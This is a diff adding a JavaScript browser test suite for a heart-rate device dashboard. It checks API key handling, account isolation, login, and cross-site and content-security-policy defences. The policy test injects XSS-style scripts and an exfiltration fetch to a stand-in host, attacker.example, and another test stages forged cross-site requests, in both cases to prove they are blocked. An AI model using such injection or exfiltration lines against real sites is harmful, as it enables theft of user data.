@@ -1,0 +1,366 @@
+// What a person does, in the order in which one would. Each leaves in `world` what later ones need.
+import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { ask, PASSWORD, until } from "./harness.mjs";
+import { Programs } from "./programs.mjs";
+
+const KEY = /raeh_[0-9A-Za-z]{36}/;
+
+const stored = (page) =>
+  page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state]));
+
+async function showsNothingOf(page, secret) {
+  const where = { page: await page.content(), storage: await stored(page), address: page.url() };
+  const values = await page.evaluate(() => [...document.querySelectorAll("input, textarea")].map((one) => one.value).join());
+  for (const [name, text] of Object.entries({ ...where, values }))
+    assert.ok(!text.includes(secret), `the key is still in the ${name}`);
+}
+
+// Signs up, registers a watch, makes a key, and sees the heart rate of a watch in the browser.
+export async function newcomer(browser, world) {
+  const page = (world.page = await browser.window());
+  const began = Date.now();
+  await page.goto("/");
+  await page.getByRole("link", { name: "Create an account" }).click();
+  world.email = await browser.signUp(page);
+  const step = (n) => page.locator(`[data-step="${n}"]`);
+  for (const n of [1, 2, 3]) assert.equal(await step(n).getAttribute("data-done"), "false");
+
+  await page.getByRole("button", { name: "Register Device Type" }).click();
+  await page.getByRole("button", { name: "Register", exact: true }).click();
+  await page.locator('[data-step="1"][data-done="true"]').waitFor();
+  world.model = (await ask(page, "GET", "/v1/device-models")).json[0];
+
+  await page.getByRole("button", { name: "Create key" }).click();
+  await page.getByRole("dialog").getByRole("button", { name: "Create key" }).click();
+  const shown = page.getByLabel("API key", { exact: true });
+  world.key = (await shown.textContent()).trim();
+  assert.match(world.key, KEY);
+  assert.equal(await page.getByLabel("Line for .env", { exact: true }).textContent(), `RAEH_KEY=${world.key}`);
+  await page.keyboard.press("Escape");
+  await page.keyboard.press("Escape");
+  assert.ok(await shown.isVisible(), "Escape has closed the dialog of a key that nobody saved");
+  await page.getByRole("button", { name: "I have saved it" }).click();
+  await page.locator('[data-step="2"][data-done="true"]').waitFor();
+  world.minted = browser.replies.length; // what comes later never holds the key
+
+  await page.getByRole("button", { name: "Simulate a watch in this browser" }).click();
+  await page.locator('[data-step="3"][data-done="true"]').waitFor();
+  const heart = page.locator(".heartbeat-value");
+  await heart.waitFor();
+  await until("the heart rate is that of the pulse", async () => {
+    const bpm = Number(await heart.textContent());
+    return bpm > 60 && bpm < 85;
+  });
+  return { seconds: Math.round((Date.now() - began) / 100) / 10 };
+}
+
+// The key that was shown is nowhere any more.
+export async function keyShownOnce(browser, world) {
+  const { page, key } = world;
+  await showsNothingOf(page, key);
+  await page.getByRole("link", { name: "API Keys" }).click();
+  await page.getByRole("link", { name: "My watch" }).click();
+  await page.getByRole("heading", { name: "My watch" }).waitFor();
+  await showsNothingOf(page, key);
+  await page.reload();
+  await page.getByRole("heading", { name: "My watch" }).waitFor();
+  await showsNothingOf(page, key);
+}
+
+// The quickstart's programs, as they are shown, stream with that key.
+export async function snippets(browser, world) {
+  const { page } = world;
+  world.programs = new Programs();
+  await page.goto("/quickstart");
+  for (const language of ["Python", "JavaScript", "C"]) {
+    await page.getByRole("tab", { name: language, exact: true }).click();
+    const text = await page.locator(".snippet pre").textContent();
+    assert.ok(text.includes(world.model.id) && text.includes(browser.base), "filled with the own ids and address");
+    world.programs.start(language, text, world.key);
+  }
+  await world.programs.streaming();
+}
+
+// A tile a device, with its heart rate; a click shows the waveform.
+export async function live(browser, world) {
+  const { page } = world;
+  await page.getByRole("link", { name: "Live", exact: true }).click();
+  for (const name of ["watch-python", "watch-javascript", "watch-c"]) {
+    const tile = page.locator(".tile", { hasText: name });
+    await tile.waitFor();
+    await until(`${name} has a heart rate`, async () => {
+      const bpm = Number(await tile.locator('[data-type="hr"]').textContent());
+      return bpm > 60 && bpm < 85;
+    });
+  }
+  await page.locator(".tile", { hasText: "watch-python" }).getByRole("button").click();
+  const dialog = page.getByRole("dialog", { name: "watch-python" });
+  await dialog.locator("canvas, .absent").first().waitFor();
+  await dialog.getByRole("link", { name: "Open the session" }).click();
+  await page.getByRole("heading", { name: "watch-python" }).waitFor();
+  await page.locator(".chart canvas").first().waitFor();
+  world.session = page.url().split("/").pop();
+}
+
+// A key that is pasted into the search is known by its hint; the key itself goes nowhere.
+export async function pastedKey(browser, world) {
+  const { page } = world;
+  const made = await ask(page, "POST", "/v1/keys", { label: "pasted" });
+  assert.equal(made.status, 201);
+  const secret = made.json.key;
+  await page.goto("/keys");
+  await page.getByRole("link", { name: "pasted" }).waitFor();
+  const asked = browser.asked.length;
+  const search = page.getByRole("searchbox");
+  await search.fill(secret.slice(0, -1) + (secret.endsWith("x") ? "y" : "x"));
+  await page.getByText("Not a key: a character is wrong or missing").waitFor();
+  await search.fill(secret);
+  await page.getByText("only its hint is looked for").waitFor();
+  assert.equal(await page.locator("tbody tr").count(), 1);
+  await showsNothingOf(page, secret);
+  for (const request of browser.asked.slice(asked)) assert.ok(!request.includes(secret), "the key left the page");
+}
+
+// Deleting the key says what it would close, wants the label, closes every socket, shows the receipt.
+export async function deleteCloses(browser, world) {
+  const { page } = world;
+  await page.goto("/keys");
+  await page.getByRole("button", { name: "Delete My watch" }).click();
+  const dialog = page.getByRole("dialog");
+  const confirm = dialog.getByRole("button", { name: "Delete key" });
+  assert.ok(await confirm.isDisabled(), "without the label");
+  await dialog.getByLabel("Type “My watch” to confirm").fill("My watch");
+  await confirm.click();
+  const line = await page.locator(".receipt-line").textContent();
+  assert.match(line, /^3 sockets closed on 2 edges in \d+ ms$/);
+  const said = Object.fromEntries(await world.programs.allEnd());
+  assert.match(said.JavaScript, /closed with 4001/);
+  await page.getByRole("button", { name: "Done" }).click();
+  await until("the key is gone from the list", async () => !(await page.getByRole("link", { name: "My watch", exact: true }).count()));
+  return { receipt: line };
+}
+
+// From the minting on, no answer held the key.
+export async function noReplyHoldsTheKey(browser, world) {
+  const later = browser.replies.slice(world.minted);
+  assert.ok(later.length > 20);
+  for (const reply of later) assert.ok(!reply.text.includes(world.key), reply.url);
+}
+
+// Another site's page in the same browser can neither change nor hear anything.
+export async function foreignSite(browser, world) {
+  const before = (await ask(world.page, "GET", "/v1/keys")).json.length;
+  const bare = await ask(world.page, "POST", "/v1/keys", { label: "forged" }, false);
+  assert.equal(bare.status, 403);
+  const site = createServer((_, answer) => answer.setHeader("Content-Type", "text/html").end("<h1>evil</h1>"));
+  await new Promise((done) => site.listen(0, "127.0.0.1", done));
+  const page = await world.page.context().newPage();
+  try {
+    await page.goto(`http://127.0.0.1:${site.address().port}/`);
+    const got = await page.evaluate(async (base) => {
+      const tried = {};
+      const body = JSON.stringify({ label: "forged" });
+      const post = { method: "POST", credentials: "include", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body };
+      await fetch(`${base}/v1/keys`, post).catch(() => undefined);
+      tried.read = await fetch(`${base}/v1/me`, { credentials: "include" }).then((answer) => answer.text(), () => "refused");
+      tried.socket = await new Promise((done) => {
+        const socket = new WebSocket(`${base.replace("http", "ws")}/stream/subscribe`);
+        socket.onmessage = (event) => done(`heard ${event.data}`);
+        socket.onclose = (event) => done(`closed ${event.code}`);
+      });
+      return tried;
+    }, browser.base);
+    assert.equal(got.read, "refused");
+    assert.match(got.socket, /^closed/);
+  } finally {
+    await page.close();
+    site.close();
+  }
+  assert.equal((await ask(world.page, "GET", "/v1/keys")).json.length, before);
+}
+
+// What an attacker could write into the page does not run.
+export async function policyHolds(browser, world) {
+  const { page } = world;
+  const answer = await page.goto("/keys");
+  const policy = answer.headers()["content-security-policy"] || "";
+  assert.ok(policy.includes("default-src") && !policy.includes("unsafe-inline") && !policy.includes("unsafe-eval"), policy);
+  assert.match(policy, /frame-ancestors 'none'/);
+  await page.getByRole("heading", { name: "API Keys" }).waitFor();
+  const broken = await page.evaluate(async () => {
+    const broken = [];
+    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
+    const script = document.createElement("script");
+    script.textContent = "window.attacked = 1";
+    document.body.append(script);
+    const box = document.createElement("div");
+    box.innerHTML = '<img src="x:" onerror="window.attacked = 2"><b style="color: red">x</b>';
+    document.body.append(box);
+    const far = document.createElement("script");
+    far.src = "https://attacker.example/x.js";
+    document.body.append(far);
+    await fetch("https://attacker.example/?stolen").catch(() => undefined);
+    const end = Date.now() + 5000;
+    while (broken.length < 5 && Date.now() < end) await new Promise((done) => setTimeout(done, 20));
+    box.remove();
+    return { broken, attacked: window.attacked ?? null };
+  });
+  assert.equal(broken.attacked, null);
+  for (const directive of ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src"])
+    assert.ok(broken.broken.includes(directive), `${directive} not in ${broken.broken}`);
+}
+
+// To somebody else, what is mine was never made.
+export async function otherAccount(browser, world) {
+  const page = await browser.window();
+  await browser.signUp(page);
+  const mine = (await ask(world.page, "GET", "/v1/keys")).json[0];
+  for (const [path, what] of [
+    [`/sessions/${world.session}`, "session"],
+    [`/keys/${mine.id}`, "key"],
+    [`/devices/types/${world.model.id}`, "device type"],
+  ]) {
+    await page.goto(path);
+    await page.getByRole("heading", { name: `There is no such ${what}` }).waitFor();
+  }
+  for (const path of ["/sessions", "/devices", "/insights", "/live"]) {
+    await page.goto(path);
+    await page.locator(".empty").waitFor();
+    assert.ok(!(await page.content()).includes("watch-python"));
+  }
+  await page.context().close();
+}
+
+// Out and in again: back where one wanted to go; a wrong password says the same for everybody.
+export async function logsOutAndIn(browser, world) {
+  const page = await browser.window();
+  const said = async () => {
+    const alert = page.getByRole("alert");
+    await alert.waitFor();
+    return alert.textContent();
+  };
+  await page.goto(`/sessions/${world.session}`);
+  await page.getByRole("heading", { name: "Log in" }).waitFor();
+  await page.getByLabel("E-mail").fill(world.email);
+  await page.getByLabel("Password").fill("not the password");
+  await page.getByRole("button", { name: "Log in" }).click();
+  const known = await said();
+  await page.getByLabel("Password").fill(PASSWORD);
+  await page.getByRole("button", { name: "Log in" }).click();
+  await page.getByRole("heading", { name: "watch-python" }).waitFor();
+  await page.getByRole("button", { name: "Log out" }).click();
+  await page.getByRole("heading", { name: "Log in" }).waitFor();
+  await page.getByLabel("E-mail").fill("nobody@example.org");
+  await page.getByLabel("Password").fill("not the password");
+  await page.getByRole("button", { name: "Log in" }).click();
+  assert.equal(await said(), known);
+  await page.goto("/keys");
+  await page.getByRole("heading", { name: "Log in" }).waitFor();
+  await page.context().close();
+}
+
+// An owner's link lets a second person in, once.
+export async function invitation(browser, world) {
+  const { page } = world;
+  await page.goto("/settings");
+  await page.getByRole("button", { name: "Make a link" }).click();
+  const link = (await page.getByLabel("invitation", { exact: true }).textContent()).trim();
+  const guest = await browser.window();
+  const join = async () => {
+    await guest.goto(link);
+    await guest.getByLabel("E-mail").fill(`guest-${Date.now()}@example.org`);
+    await guest.getByLabel("Password").fill(PASSWORD);
+    await guest.getByRole("button", { name: "Join" }).click();
+  };
+  await join();
+  await guest.locator(".shell").waitFor();
+  await guest.goto("/sessions");
+  await guest.getByRole("link", { name: "watch-python" }).waitFor();
+  await guest.getByRole("button", { name: "Log out" }).click();
+  await guest.getByRole("heading", { name: "Log in" }).waitFor();
+  await join();
+  await guest.getByRole("alert").waitFor();
+  await guest.context().close();
+}
+
+const TILES = 500;
+const MEASURED_MS = 4000;
+
+// Hundreds of devices at once: what the page draws, with a feed that is made up here.
+export async function manyTiles(browser, world) {
+  const page = await world.page.context().newPage();
+  const sessions = Array.from({ length: TILES }, (_, i) => ({
+    id: `01900000-0000-7000-8000-${String(i).padStart(12, "0")}`,
+    device_id: `fleet-${i}`,
+    device_model_id: world.model.id,
+    status: "open",
+    started_at: new Date().toISOString(),
+    ended_at: null,
+  }));
+  await page.route(/\/v1\/sessions\?/, (route) => route.fulfill({ json: sessions }));
+  let timer;
+  await page.routeWebSocket(/\/stream\/subscribe/, (socket) => {
+    socket.send(JSON.stringify({ status: "subscribed" }));
+    let n = 0;
+    const kinds = [["hr", "bpm", 60], ["rr", "brpm", 12], ["hr", "bpm", 60], ["spo2", "%", 95]];
+    timer = setInterval(() => {
+      for (let i = 0; i < 25; i++, n++) {
+        const session = sessions[n % TILES];
+        const [type, unit, low] = kinds[Math.floor(n / TILES) % 4];
+        const value = low + ((n * 7) % 5);
+        socket.send(JSON.stringify({ type, unit, value, ts: Date.now(), t: Date.now(), id: `i${n}`, session_id: session.id, device_id: session.device_id, confidence: 0.9, sqi_class: "excellent" }));
+      }
+    }, 50);
+  });
+  try {
+    await page.goto("/live");
+    await page.locator(`.wall[data-tiles="${TILES}"]`).waitFor();
+    await until("the last tile has a value", async () => /^6\d$/.test(await page.locator(".tile").last().locator('[data-type="hr"]').textContent().catch(() => "")) || page.evaluate(() => scrollTo(0, document.body.scrollHeight)));
+    return await page.evaluate(async (ms) => {
+      const gaps = [];
+      let last = performance.now();
+      const end = last + ms;
+      await new Promise((done) => {
+        const step = (now) => {
+          gaps.push(now - last);
+          last = now;
+          scrollBy(0, -12);
+          if (now < end) requestAnimationFrame(step);
+          else done();
+        };
+        requestAnimationFrame(step);
+      });
+      gaps.sort((a, b) => a - b);
+      const round = (x) => Math.round(x * 10) / 10;
+      return { tiles: document.querySelectorAll(".tile").length, frames_per_s: round((1000 * gaps.length) / ms), p95_frame_ms: round(gaps[Math.floor(gaps.length * 0.95)]) };
+    }, MEASURED_MS);
+  } finally {
+    clearInterval(timer);
+    await page.close();
+  }
+}
+
+// The browser's own watch was streaming all the time; it stops when told, and its key is deleted.
+export async function watchStops(browser, world) {
+  const { page } = world;
+  await page.goto("/quickstart");
+  await page.getByRole("button", { name: "Simulate a watch in this browser" }).click();
+  await page.getByRole("link", { name: "Sessions", exact: true }).click();
+  await page.getByRole("heading", { name: "Sessions" }).waitFor();
+  const note = page.locator(".side .watch-note");
+  await note.waitFor();
+  const open = async () => (await ask(page, "GET", "/v1/sessions?status=open&device_id=watch-in-browser")).json.length;
+  await until("its session is open", async () => (await open()) === 1);
+  const keys = async () => (await ask(page, "GET", "/v1/keys")).json.filter((key) => key.external_id === "watch-in-the-browser").length;
+  const before = await keys();
+  await note.getByRole("button", { name: "Stop" }).click();
+  await until("its session is closed", async () => (await open()) === 0);
+  await until("its key is deleted", async () => (await keys()) === before - 1);
+}
+
+// No page has complained in all this.
+export async function nothingComplained(browser) {
+  assert.deepEqual(browser.complaints.filter((one) => !/Content Security Policy|Content-Security-Policy/.test(one)), []);
+}
+
